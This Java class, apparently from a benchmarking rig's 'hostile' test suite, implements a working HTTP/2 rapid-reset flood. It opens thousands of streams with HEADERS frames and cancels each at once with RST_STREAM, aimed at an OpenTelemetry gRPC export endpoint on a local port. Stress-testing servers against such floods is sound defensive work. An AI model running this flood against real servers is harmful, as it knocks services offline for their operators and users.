package dev.quipu.benchmarks.rig.hostile;

import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.TimeUnit;

/** HTTP/2 streams that are opened and reset at once (RFC 9113, sections 6.2 and 6.4). */
final class ResetFlood extends Attack {

    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int END_HEADERS = 4;
    private static final int CANCEL = 8;
    private static final int FRAME_HEAD_BYTES = 9;
    private static final int STREAMS_PER_WRITE = 50;
    private static final int STREAMS_PER_CONNECTION = 20_000;
    private static final int PAUSE_MILLIS = 20;

    private final int port;
    private final byte[] headers = headers();

    ResetFlood(int port) {
        this.port = port;
    }

    @Override
    String text() {
        return count() + " HTTP/2 streams opened and reset";
    }

    @Override
    void attack() throws IOException, InterruptedException {
        try (Socket socket = connect(port)) {
            OutputStream out = socket.getOutputStream();
            out.write(PREFACE);
            out.write(frame(SETTINGS, 0, 0, new byte[0]).array());
            for (int stream = 1; stream < 2 * STREAMS_PER_CONNECTION && !isOver(); ) {
                ByteBuffer flood = ByteBuffer.allocate(
                        STREAMS_PER_WRITE * (2 * FRAME_HEAD_BYTES + headers.length + Integer.BYTES));
                for (int i = 0; i < STREAMS_PER_WRITE; i++, stream += 2) {
                    flood.put(frame(HEADERS, END_HEADERS, stream, headers));
                    flood.put(frame(RST_STREAM, 0, stream, new byte[] {0, 0, 0, CANCEL}));
                    counted();
                }
                out.write(flood.array());
                TimeUnit.MILLISECONDS.sleep(PAUSE_MILLIS);
            }
        }
    }

    private static ByteBuffer frame(int type, int flags, int stream, byte[] payload) {
        return ByteBuffer.allocate(FRAME_HEAD_BYTES + payload.length)
                .put((byte) (payload.length >> 16))
                .putShort((short) payload.length)
                .put((byte) type)
                .put((byte) flags)
                .putInt(stream)
                .put(payload)
                .flip();
    }

    /** HPACK (RFC 7541): indexed {@code :method POST} and {@code :scheme http}, literals without indexing for the rest. */
    private static byte[] headers() {
        String path = "/opentelemetry.proto.collector.trace.v1.TraceService/Export";
        ByteBuffer block = ByteBuffer.allocate(256);
        block.put((byte) 0x83).put((byte) 0x86);
        block.put((byte) 0x04);
        text(block, path);
        block.put((byte) 0x01);
        text(block, "127.0.0.1");
        block.put((byte) 0x00);
        text(block, "content-type");
        text(block, "application/grpc");
        byte[] bytes = new byte[block.flip().remaining()];
        block.get(bytes);
        return bytes;
    }

    private static void text(ByteBuffer block, String text) {
        block.put((byte) text.length()).put(text.getBytes(StandardCharsets.US_ASCII));
    }
}
